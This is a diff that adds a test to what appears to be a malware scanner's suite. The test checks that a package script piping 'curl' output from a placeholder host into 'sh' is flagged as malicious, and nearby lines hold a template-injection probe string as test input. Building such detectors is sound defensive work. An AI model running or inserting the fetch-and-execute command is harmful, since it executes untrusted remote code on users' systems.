@@ -163,6 +163,12 @@ def test_hostile_scripts_are_hostile(content):
     assert _scan("run.sh", content) is Verdict.MALICIOUS
 
 
+def test_a_script_of_a_package_that_pipes_into_a_shell_is_hostile():
+    content = b"curl -s https://files.example/i | sh\n"
+    name = "tool-1.data/scripts/python3.sh"
+    assert _scan(name, content, *_INSTALLED) is Verdict.MALICIOUS
+
+
 _INCLUDES = b"{% include 'base.html' %}{{ self.title() }}"
 _LEAVES = b"{{ x.__class__.__mro__ }}"
 
